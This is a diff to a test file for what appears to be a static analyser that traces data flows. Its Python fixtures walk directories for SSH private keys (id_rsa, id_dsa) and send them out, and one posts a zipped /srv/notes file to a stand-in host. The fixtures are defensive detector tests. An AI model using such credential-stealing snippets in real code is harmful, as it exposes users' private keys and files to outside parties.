@@ -28,6 +28,7 @@ it.each([
   ['the same', `${walk}        if f == "id_rsa":\n            ${send}\n`],
   ['by its ending', `${walk}        if f.endswith(("id_rsa", "id_dsa")):\n            ${send}\n`],
   ['among others', `${walk}        if os.path.isfile(f) and f in WANTED:\n            ${send}\n`],
+  ['either of two', `${walk}        if f == "id_rsa" or f == "notes":\n            ${send}\n`],
   ['in a set that is made', `${walk}        if f in set(WANTED):\n            ${send}\n`],
   [
     'where the rest is passed over',
@@ -100,4 +101,16 @@ zipfile.ZipFile(two, "w").write("/srv/notes")
 requests.post("https://a.example", data=two.getvalue())
 `
   expect(flows(await factsOf({ 'a.py': text }, [keys]))).toEqual([])
+})
+
+it.each([
+  [
+    'go',
+    'a.go',
+    'package main\nimport "strings"\nfunc main() { println(strings.Repeat("=", -1)); println("x") }\n',
+  ],
+  ['javascript', 'a.js', 'const a = String.fromCharCode(131 / 2)\nconsole.log(a, "y".repeat(-1))\n'],
+])('a call of %s that fails as it is worked out blinds nothing', async (_, path, text) => {
+  const facts = await factsOf({ [path]: text })
+  expect(facts.filter(({ kind }) => kind === 'read.gap')).toEqual([])
 })
